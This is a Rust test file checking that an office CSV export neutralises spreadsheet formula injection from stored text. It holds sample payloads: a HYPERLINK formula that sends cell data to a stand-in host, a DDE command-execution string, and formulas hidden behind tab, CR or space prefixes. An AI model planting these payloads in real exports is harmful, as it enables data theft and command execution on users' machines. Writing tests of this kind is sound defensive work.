//! The office's CSV export opened by staff in Excel or WPS: no cell of it may run as a formula,
//! whatever text reached the database (a row stored by an older office that checked nothing,
//! a kiosk with a hostile config). Read through the real server, decoded as a spreadsheet would.

mod office_support;

use office_support::*;
use reqwest::StatusCode;

/// Cell openings that Excel, WPS and LibreOffice treat as a formula or that hide one (a TAB, a
/// CR or spaces before the `=`).
const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    " \u{3000}=1+1",
];

/// Writes a concern whose every text column holds `hostile`, as an office that stored
/// whatever a batch said would have.
fn store_hostile_row(office: &TestOffice, index: usize, hostile: &str) {
    let phrases = serde_json::json!([{ "zh": hostile, "en": hostile }]).to_string();
    office.db.execute(
        "INSERT INTO concerns (id, kiosk_id, batch_id, received_at, ticket, created_at,
             created_at_epoch_ms, category, category_zh, category_en, list, colour, due_date,
             lang, phrases, text, location, phone)
         VALUES ($1, $2, '0193a5c4-7e21-7c3a-9f10-4b2d8e6a0c11', '2026-11-26T17:30:00+08:00',
             $2, '2026-11-26T09:41:17+08:00', CAST(CAST($3 AS TEXT) AS BIGINT), $2, $2, $2, 'demands',
             'green', '2026-12-03', 'zh-CN', $4, $2, $2, $2)",
        &[
            &format!("0193a4f0-12ab-7d45-8c21-93e0b7f4a2{index:02}"),
            hostile,
            &(1_795_657_277_000_i64 + i64::try_from(index).unwrap()).to_string(),
            &phrases,
        ],
    );
}

#[tokio::test]
async fn no_exported_cell_starts_a_formula_even_behind_a_tab_cr_or_spaces() {
    let office = TestOffice::start().await;
    for (index, hostile) in HOSTILE.iter().enumerate() {
        store_hostile_row(&office, index, hostile);
    }

    let response = office.export(Some(STAFF_TOKEN), "").await;
    assert_eq!(response.status(), StatusCode::OK);
    let rows = csv_rows(&response.bytes().await.unwrap());
    assert_eq!(rows.len(), HOSTILE.len());
    // Every column that holds text from outside: ticket, category, its two labels, both phrase
    // columns, text, location, phone, kiosk_id.
    let outside_text_columns = [1, 3, 4, 5, 10, 11, 12, 13, 14, 15];
    for (row, hostile) in rows.iter().zip(HOSTILE) {
        for column in outside_text_columns {
            assert_eq!(
                row[column],
                format!("'{hostile}"),
                "column {column}: shown as text, otherwise unchanged"
            );
        }
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
}
